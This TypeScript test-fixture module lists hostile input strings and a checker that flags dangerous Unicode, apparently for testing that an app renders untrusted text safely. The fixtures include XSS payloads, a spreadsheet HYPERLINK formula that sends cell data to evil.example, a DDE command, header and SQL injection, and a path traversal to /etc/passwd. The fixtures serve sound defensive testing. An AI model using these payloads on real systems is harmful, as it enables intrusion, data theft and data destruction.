/** Texts that were made to do harm, each with what it tries. All of them are shown as harmless text, or refused. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  html: '<img src=x onerror="window.harmed=1"><b>bold</b>',
  script: '</p></li></script><script>window.harmed=1</script>',
  svg: '<svg onload="window.harmed=1"><use href="#x"/></svg>',
  entity: '&lt;script&gt;window.harmed=1&lt;/script&gt; &#x202e;',
  'javascript link': 'javascript:window.harmed=1//https://example.org',
  'markdown link': '[click](javascript:window.harmed=1)',
  'data link': 'data:text/html,<script>opener.harmed=1</script>',
  'link with somebody else’s host': 'https://canopy.example@evil.example/%0d%0aSet-Cookie:harmed=1',
  'link turned around': 'https://example.org/\u202egpj.exe',
  override: 'ok \u202e!detrevni si siht',
  embedding: 'a \u202b\u202a\u202d embedded',
  'open isolate': '\u2067\u2066\u2068 never closed',
  'closed too often': 'fine \u2069\u2069\u202c text',
  zalgo: `Z${'\u0300\u0301\u0302\u0303\u0315\u031b\u0328\u0334\u0360\u0489'.repeat(12)}algo`,
  'zalgo behind joiners': `a${'\u0351\u200d'.repeat(60)}b`,
  'thai tower': `ก${'\u0e34\u0e48'.repeat(40)}`,
  'half a character': 'before \ud83d after \udc00',
  'null bytes': 'nothing\0here\0',
  controls: 'bell\u0007 escape\u001b[31m back\b\u0085 delete\u007f',
  'header lines': 'Hello\r\nBcc: everybody@example.org\r\n\r\nBody',
  'line separators': 'one\u2028two\u2029three',
  formula: '=HYPERLINK("http://evil.example/"&A1,"click")',
  command: "+cmd|' /C calc'!A0",
  'formula behind a tab': '\t@SUM(1+1)*cmd|x',
  'formula in full width': '＝1＋1',
  sql: "'; DROP TABLE messages; --",
  template: '{{constructor.constructor("window.harmed=1")()}} ${window.harmed=1}',
  prototype: '__proto__',
  homoglyphs: 'Саnору Оrgаnіsеr',
  'one very wide character': '﷽'.repeat(20),
  'no place to break': 'W'.repeat(300),
  'invisible beginning': '\u200b\u2060\ufeff\u3164visible',
  path: '../../../etc/passwd%00.html',
};

/** Texts that say nothing anybody could see. */
export const INVISIBLE_TEXTS = [
  '\0',
  '\u200b\u2060',
  '\u202e\u202c',
  '\u3164',
  '\ufeff',
  ' \u00a0\u2003 ',
  '\u2066\u2069',
];

/** What is wrong with a text as it is kept, so that it could harm where it is shown; `null` for nothing. */
export function harmIn(text: string): string | null {
  if (!text.isWellFormed()) return 'half a character';
  if (/[^\P{Cc}\n]/u.test(text)) return 'a control character';
  if (/[\u202a-\u202e]/.test(text)) return 'an override';
  if (/\p{M}{9,}/u.test(text.normalize('NFD').replace(/[\u200b-\u200d]/g, ''))) return 'a tower of marks';
  const unbalanced = text.split('\n').some((line) => {
    const opened = [...line].filter((each) => /[\u2066-\u2068]/.test(each)).length;
    return opened !== [...line].filter((each) => each === '\u2069').length;
  });
  return unbalanced ? 'an open isolate' : null;
}
